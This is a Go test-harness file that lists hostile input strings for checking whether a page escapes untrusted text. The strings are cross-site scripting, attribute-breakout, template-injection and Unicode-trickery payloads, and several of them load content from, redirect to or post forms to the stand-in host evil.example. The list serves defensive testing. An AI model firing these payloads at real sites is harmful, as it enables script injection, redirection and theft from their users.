package harness

// Stolen is what hostile texts leave behind where a page takes them for more than text: an element of this name, an
// attribute of it, or a property of the window.
const Stolen = "x-stolen"

// HostileTexts are what a client, a user or a browser may say so that a page runs it, loads something from elsewhere or
// says something else than it did, if the page does not show it as text. Those that are also addresses begin with a
// scheme.
func HostileTexts() []string {
	return []string{
		`<x-stolen></x-stolen>`,
		`"><img src=x onerror="window['x-stolen']=1">`,
		`'><svg/onload=window['x-stolen']=2>`,
		`" x-stolen="1" autofocus onfocus="alert(1)" x="`,
		`' x-stolen='1' style='position:fixed' onmouseover='alert(1)`,
		"` onclick=`alert(1)` x-stolen=`1",
		`</title></textarea></select></script><script>window['x-stolen']=3</script>`,
		`</style><style>@import "//evil.example/a.css";body{display:none}</style>`,
		`javascript:window['x-stolen']=4//`,
		"java\tscript:alert(5)",
		`data:text/html,<script>alert(6)</script>`,
		`//evil.example/"><base href="//evil.example/"><x-stolen>`,
		`https://evil.example/?<iframe srcdoc="<script>parent['x-stolen']=7</script>"></iframe>`,
		`<form action="//evil.example"><button formaction="//evil.example" x-stolen>OK</button>`,
		`<meta http-equiv="refresh" content="0;url=//evil.example/">`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(8)&gt;">`,
		`{"a":"</script><!--<script>","b":"\u003cx-stolen\u003e"}`,
		`{{define "x"}}<x-stolen>{{end}}{{.}} ${alert(9)} #{7*7} <%= 7*7 %>`,
		"&lt;x-stolen&gt; &#x3c;x-stolen&#x3e; %3Cx-stolen%3E +ADw-x-stolen+AD4-",
		"\u202egnp.exe\u202c \u2066admin\u2069 \ufeff\u200b<x-stolen>\u2028alert(10)\u2029",
		"＜x-stolen＞ ʺ onload=alert(11) ſcript <ſcript>",
		`url(//evil.example/x); background: url("javascript:alert(12)"); } * { display: none }`,
	}
}
